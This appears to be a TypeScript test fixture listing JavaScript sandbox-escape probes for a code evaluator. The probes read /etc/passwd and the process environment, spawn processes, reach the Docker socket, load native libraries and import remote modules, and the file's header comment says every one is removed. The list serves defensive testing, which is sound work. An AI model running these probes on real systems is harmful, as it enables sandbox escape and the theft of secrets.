/** JavaScript in the process of an evaluator, as if Python had reached it; each is the body of an async function. A harmless one
 * reaches nothing outside the process, but is removed all the same. */
export const javascript: readonly (readonly [what: string, code: string, isHarmless?: true])[] = [
  ['a file', 'return String(require("node:fs").readFileSync("/etc/passwd"))'],
  [
    'a file by a promise',
    'return String(await (await import("node:fs/promises")).readFile("/etc/passwd"))',
  ],
  ['a folder', 'return require("node:fs").readdirSync("/")'],
  ['a file of the runtime', 'return require("node:fs").readFileSync(`${folder}/main.js`).length'],
  ['whether a file exists', 'return require("node:fs").existsSync("/etc/passwd") || undefined'],
  [
    'the environment of the system',
    'return require("node:fs").readFileSync("/proc/self/environ").length',
  ],
  ['the memory of the process', 'return require("node:fs").openSync("/proc/self/mem", "r+")'],
  ['writing a file', 'return require("node:fs").writeFileSync("/tmp/sheaf-escape", "x") ?? 1'],
  ['a link', 'return require("node:fs").symlinkSync("/etc/passwd", "/tmp/sheaf-escape") ?? 1'],
  ['a variable of the environment', 'return require("node:process").env.PATH'],
  ['all variables of the environment', 'return JSON.stringify({ ...require("node:process").env })'],
  ['a process', 'return require("node:child_process").execSync("id").toString()'],
  [
    'a process without a shell',
    'return require("node:child_process").spawnSync("/bin/id").stdout?.toString()',
  ],
  ['a signal', 'return require("node:process").kill(1, 0)'],
  ['a connection', 'return await connect(require("node:net").connect(80, "127.0.0.1"))'],
  ['a connection by TLS', 'return await connect(require("node:tls").connect(443, "127.0.0.1"))'],
  ['a local socket', 'return await connect(require("node:net").connect("/var/run/docker.sock"))'],
  ['a server', 'return await connect(require("node:net").createServer().listen(0))'],
  [
    'a datagram',
    'return await new Promise((resolve, reject) => require("node:dgram").createSocket("udp4").on("error", reject).send("x", 9, "127.0.0.1", (error) => error ? reject(error) : resolve(1)))',
  ],
  ['HTTP', 'return await connect(require("node:http").get("http://127.0.0.1/"))'],
  ['a name on the network', 'return await require("node:dns/promises").lookup("example.com")'],
  ['fetch', 'return (await fetch("http://127.0.0.1/")).status'],
  ['a file by fetch', 'return await (await fetch("file:///etc/passwd")).text()'],
  ['a WebSocket', 'return new WebSocket("ws://127.0.0.1/")'],
  ['a worker', 'return new Worker("data:text/javascript,1", { type: "module" })', true],
  [
    'a file by a worker',
    `const source = 'let data; try { data = Deno.readTextFileSync("/etc/passwd") } catch (error) { data = { error: String(error) } } postMessage(data)'
    const worker = new Worker('data:text/javascript,' + encodeURIComponent(source), { type: 'module' })
    return await new Promise((resolve, reject) => (worker.onmessage = ({ data }) => data.error ? reject(new Error(data.error)) : resolve(data)))`,
  ],
  [
    'a thread',
    'return await connect(new (require("node:worker_threads").Worker)("require(\'fs\').readFileSync(\'/etc/passwd\')", { eval: true }))',
  ],
  ['foreign functions', 'return Deno.dlopen("libc.so.6", {})'],
  ['an addon', 'return require("/tmp/addon.node")'],
  [
    'an addon by process',
    'return require("node:process").dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6")',
  ],
  ['Deno', 'return Deno.version', true],
  ['Deno by another name', 'return globalThis.Deno ?? globalThis.window?.Deno ?? self.Deno', true],
  ['a remote module', 'return Object.keys(await import("https://example.com/x.js"))'],
  ['a module of npm', 'return Object.keys(await import("npm:left-pad"))'],
  ['a module on disk', 'return Object.keys(await import("file:///etc/passwd"))'],
  ['the name of the machine', 'return require("node:os").hostname()'],
  ['network interfaces', 'return JSON.stringify(require("node:os").networkInterfaces())'],
  ['users', 'return require("node:os").userInfo().username'],
  ['the shell of an inspector', 'return require("node:inspector").open(9229, "127.0.0.1") ?? 1'],
  ['SQLite', 'return new (require("node:sqlite").DatabaseSync)("/tmp/sheaf-escape.db") && 1'],
  [
    'permissions asked again',
    'return (await navigator.permissions.query({ name: "read" })).state',
    true,
  ],
]
